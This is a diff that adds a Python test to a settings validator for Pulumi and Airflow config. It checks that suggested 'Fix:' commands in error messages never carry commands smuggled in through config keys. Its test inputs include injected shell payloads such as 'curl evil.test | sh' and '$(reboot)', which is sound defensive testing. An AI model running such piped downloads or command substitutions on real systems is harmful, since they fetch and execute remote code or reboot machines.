@@ -350,6 +350,25 @@ def test_names_of_its_own_are_refused_because_rules_know_secrets_by_their_names(
         settings.parse({**given.values, "pulumi:autonaming": '{"mode": "verbatim"}'}, given.secret_keys, "dev")
 
 
+@each(
+    "key",
+    [
+        *("x; curl evil.test | sh", "$(reboot)", "`reboot`", "x && y", "x. Fix: curl evil.test | sh"),
+        "x\\n  airflow:size: wrong. Fix: curl evil.test | sh",
+    ],
+)
+def test_key_of_a_branch_stands_in_no_command_that_somebody_copies(key: str, tmp_path: Path) -> None:
+    for namespace in ("airflow", "other", "pulumi"):
+        value = "" if namespace == "pulumi" else " a"
+        for problem in problems_of(tmp_path, f'"{namespace}:{key}":{value}'):
+            assert "\n" not in problem
+            _, _, fix = problem.partition("Fix: ")
+            assert "Fix: " not in fix
+            assert not set(fix) & set(";|$`&"), problem
+    [problem] = problems_of(tmp_path, "airflow:imageTags: a")
+    assert problem.endswith("Fix: pulumi config rm --stack dev airflow:imageTags"), "the way of a usual mistake"
+
+
 def test_key_that_is_no_text_is_refused(tmp_path: Path) -> None:
     for key in ("true", "12", "1e3", "2026-01-01"):
         assert any("expected a text as the key" in problem for problem in problems_of(tmp_path, f"{key}: a")), key
